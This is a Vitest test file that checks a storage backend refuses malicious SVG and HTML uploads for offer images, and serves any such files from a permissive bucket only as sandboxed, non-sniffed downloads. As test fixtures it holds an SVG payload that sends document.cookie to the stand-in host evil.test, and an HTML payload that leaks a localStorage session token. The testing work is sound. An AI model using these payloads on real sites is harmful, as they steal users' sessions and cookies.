import { existsSync } from 'node:fs';
import { join } from 'node:path';
import type { SupabaseClient } from '@supabase/supabase-js';
import { beforeAll, describe, expect, it } from 'vitest';
import { rawRequest } from '../gateway/raw-request.ts';
import { COMPANIES } from '../rls/seed-ids.ts';
import { PNG_BYTES, createBucket, createOwnerPolicies } from '../storage/support.ts';
import { startTestBackend } from '../support/backend.ts';
import { backendForFile } from '../support/backend-for-file.ts';
import { expectSecurityHeaders, header } from './security-header-checks.ts';

// Uploaded files are never active content on the app's origin: an SVG or HTML file can neither be stored in
// the offer images bucket (whatever type it claims) nor, where some bucket does hold one, run or be a page.

const MALICIOUS_SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/auth/v1/user')">
  <script>document.location = 'https://evil.test/?c=' + document.cookie</script>
</svg>`;
const MALICIOUS_HTML = '<!doctype html><script>parent.postMessage(localStorage.getItem("sb"), "*")</script>';
const ACME_FOLDER = COMPANIES.acme;
/** A bucket that takes any type (as a careless migration could create): the serving side must hold. */
const ANY_TYPE_BUCKET = 'any-type-uploads';

const backend = backendForFile(() => startTestBackend());
let owner: SupabaseClient;

beforeAll(async () => {
  owner = await backend().signIn('eier@acme.test');
  await createBucket(backend(), { id: ANY_TYPE_BUCKET, public: true, allowedMimeTypes: null });
  await createOwnerPolicies(backend(), ANY_TYPE_BUCKET);
});

const file = (body: BlobPart, name: string, type: string) => new File([body], name, { type });
const stored = (bucket: string, key: string) =>
  existsSync(join(backend().gateway.ctx.storageDir, bucket, key));
const fetchPublic = (bucket: string, key: string) =>
  rawRequest(`${backend().url}/storage/v1/object/public/${bucket}/${key}`, {
    headers: { host: new URL(backend().url).host },
  });

describe('the offer images bucket', () => {
  it.each([
    [
      'a raster type it is not',
      'image/png',
      'logo.png',
      'mime type image/png does not match the file content',
    ],
    ['its own type', 'image/svg+xml', 'logo.svg', 'mime type image/svg+xml is not supported'],
    ['a type the bucket does not take', 'text/html', 'logo.html', 'mime type text/html is not supported'],
  ])('refuses a malicious SVG claiming %s', async (_label, contentType, name, message) => {
    const key = `${ACME_FOLDER}/${name}`;
    const { data, error } = await owner.storage
      .from('offer-images')
      .upload(key, file(MALICIOUS_SVG, name, contentType), { contentType });
    expect(data).toBeNull();
    expect(error).toMatchObject({ statusCode: '415', message });
    expect(stored('offer-images', key)).toBe(false);
    expect((await fetchPublic('offer-images', key)).status).toBe(400);
  });

  it('takes a real PNG and serves it inline, sandboxed and never sniffed', async () => {
    const key = `${ACME_FOLDER}/real.png`;
    const { error } = await owner.storage
      .from('offer-images')
      .upload(key, file(PNG_BYTES, 'real.png', 'image/png'), { contentType: 'image/png' });
    expect(error).toBeNull();
    const response = await fetchPublic('offer-images', key);
    expect(response.status).toBe(200);
    expect(header(response.headers, 'content-type')).toBe('image/png');
    expect(header(response.headers, 'content-disposition')).toBe('');
    expect(header(response.headers, 'content-security-policy')).toContain("default-src 'none'");
    expect(header(response.headers, 'content-security-policy')).toContain('sandbox');
    expectSecurityHeaders(response.headers);
  });
});

describe('a bucket that takes any type', () => {
  it.each([
    ['an SVG', 'image/svg+xml', 'evil.svg', MALICIOUS_SVG],
    ['an HTML page', 'text/html', 'evil.html', MALICIOUS_HTML],
  ])('serves %s only as a sandboxed download', async (_label, contentType, name, body) => {
    const { error } = await owner.storage
      .from(ANY_TYPE_BUCKET)
      .upload(name, new Blob([body]), { contentType });
    expect(error).toBeNull();
    const response = await fetchPublic(ANY_TYPE_BUCKET, name);
    expect(response.status).toBe(200);
    const policy = expectSecurityHeaders(response.headers);
    // No script, no plugin, nothing loaded; and a unique opaque origin should it be opened anyway.
    expect(policy.get('default-src')).toEqual(["'none'"]);
    expect(policy.has('sandbox')).toBe(true);
    expect(policy.get('sandbox')).toEqual([]);
    expect(header(response.headers, 'x-content-type-options')).toBe('nosniff');
    expect(header(response.headers, 'content-disposition')).toMatch(
      /^attachment; filename="evil\.(svg|html)"/,
    );
  });
});
